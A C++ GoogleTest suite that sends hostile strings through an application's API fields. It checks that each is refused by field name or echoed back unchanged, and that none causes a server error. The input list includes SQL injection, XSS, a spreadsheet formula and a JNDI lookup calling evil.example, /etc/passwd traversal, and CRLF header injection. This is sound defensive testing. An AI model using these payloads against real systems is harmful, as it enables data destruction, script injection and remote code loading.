// Text that means something to a database, a browser, a spreadsheet, a template or a terminal, through every text of every operation: it is refused by its
// name, or comes back as it was sent. Every request is undone after it was answered.
#include "base/text.hpp"
#include "testing/walk.hpp"

#include <boost/json.hpp>
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <optional>

namespace entente::app {
namespace {

using namespace testing;

std::string json_of(std::string_view text) { return boost::json::serialize(boost::json::string(text)); }

/// As JSON, because some of it is none.
std::vector<std::string> hostile_texts()
{
    std::vector<std::string> all;
    for (std::string_view const text :
         {"Robert'); DROP TABLE partners;--", "' OR '1'='1", "<img src=x onerror=alert(1)>",
          "</script><script>alert(1)</script>", "=HYPERLINK(\"https://evil.example\",\"x\")", "@SUM(A1)", "+1+1",
          "-1+1", "%s%n%x {0} ${jndi:ldap://evil.example} {{7*7}}", "../../etc/passwd", "\\\\evil\\share", "a,b;c|d",
          "x\" y' z`", "Ångström 株式会社 𝔘𝔫𝔦"})
        all.push_back(json_of(text));
    for (auto const* json : {R"("turn\u202Eed")", R"("nul\u0000")", R"("\r\nSet-Cookie: x=y")", R"("\ud800")",
                             "\"\xC0\xAF\"", "\"\xED\xA0\x80\"", "\"\xFF\"", R"("\uFFFF")", R"("")", R"("   ")"})
        all.emplace_back(json);
    all.push_back(json_of(std::string(100'000, 'x')));
    all.push_back(json_of(std::string(50'000, '\'')));
    return all;
}

/// Every value of that member, however deep.
void collect(boost::json::value const& value, std::string_view name, std::vector<std::string>& found)
{
    if (auto const* list = value.if_array())
        for (auto const& each : *list)
            collect(each, name, found);
    if (auto const* object = value.if_object())
        for (auto const& member : *object) {
            if (member.key() == name && member.value().is_string())
                found.emplace_back(member.value().as_string());
            collect(member.value(), name, found);
        }
}

std::vector<std::string> answered(std::string_view name)
{
    std::vector<std::string> found;
    collect(boost::json::parse(would_have_answered), name, found);
    return found;
}

bool holds(std::vector<std::string> const& texts, std::string_view sought)
{
    return std::ranges::find(texts, sought) != texts.end();
}

bool names(web::Response const& refusal, std::string_view field)
{
    return refusal.body.find(fmt::format("/{}\"", field)) != std::string::npos ||
           refusal.body.find(fmt::format("/{}/", field)) != std::string::npos; // one of a list
}

struct HostileText : ::testing::Test {
    Walk walk;
    std::array<std::string_view, 3> const roles = {Role::platform_admin, Role::partner_admin, "anonymous"};
    std::set<std::string> came_back;

    web::Response ask(std::string_view role, web::Route const& route, Replaced const& replaced = {})
    {
        auto ids = walk.objects.by_class[own];
        if (route.operation == "set_up" || route.operation == "preview_setup")
            for (auto const* of_a_new_one : {"partner", "partnership", "user"})
                ids.erase(of_a_new_one);
        return walk.ask(role, route, sample_request(route, ids, replaced), R"("1")");
    }
    /// Whoever of them may do it, and whether it would be done as it is.
    std::pair<std::string_view, bool> asker(web::Route const& route)
    {
        for (auto const role : roles)
            if (auto const status = ask(role, route).status; status < 300)
                return {role, true};
        for (auto const role : roles)
            if (auto const status = ask(role, route).status; status != 401 && status != 403 && status != 404)
                return {role, false};
        return {roles[0], false};
    }
    void comes_back(web::Route const& route, std::string_view name, std::string const& json)
    {
        boost::system::error_code none;
        auto const read = boost::json::parse(json, none);
        ASSERT_FALSE(none) << route.operation << " " << name << " took what is no JSON";
        auto const sent = std::string(read.as_string());
        auto const texts = answered(name);
        bool const is_the_customers_own = route.operation == "keep_tabs" && name == "name";
        if (texts.empty() || is_the_customers_own)
            return;
        EXPECT_LT(sent.size(), 10'000U) << route.operation << " " << name;
        EXPECT_TRUE(holds(texts, sent) || holds(texts, text::trim(sent)))
            << route.operation << " " << name << " " << sent.substr(0, 80) << " came back as "
            << texts.front().substr(0, 80);
        came_back.insert(fmt::format("{} {}", route.operation, name));
    }
};

TEST_F(HostileText, IsRefusedByItsNameOrComesBackAsItWasSent)
{
    auto const hostile = hostile_texts();
    for (auto const& route : undone_routes()) {
        auto const texts = texts_of(route);
        if (!route.writes() || texts.empty())
            continue;
        auto const [role, is_fine] = asker(route);
        for (auto const name : texts)
            for (auto const& json : hostile) {
                auto const response = ask(role, route, {name, json});
                auto const said = fmt::format("{} {} {}: {} {}", route.operation, name, json.substr(0, 60),
                                              response.status, response.body.substr(0, 300));
                ASSERT_LT(response.status, 500) << said;
                if (route.takes_upload)
                    continue; // whose texts stand in its address
                if (response.status < 300) {
                    comes_back(route, name, json);
                } else if (response.status == 422 && is_fine) {
                    EXPECT_TRUE(names(response, name)) << said;
                }
            }
    }
    EXPECT_GT(came_back.size(), 20U) << fmt::format("{}", fmt::join(came_back, ", "));
}

TEST_F(HostileText, InAnAddressIsRefusedOrFindsNothing)
{
    for (auto const& route : undone_routes()) {
        if (route.writes())
            continue;
        for (auto const name : texts_of(route))
            for (auto const& json : hostile_texts())
                for (auto const role : roles)
                    EXPECT_LT(ask(role, route, {name, json}).status, 500)
                        << route.operation << " " << name << " " << json.substr(0, 60);
    }
}

} // namespace
} // namespace entente::app
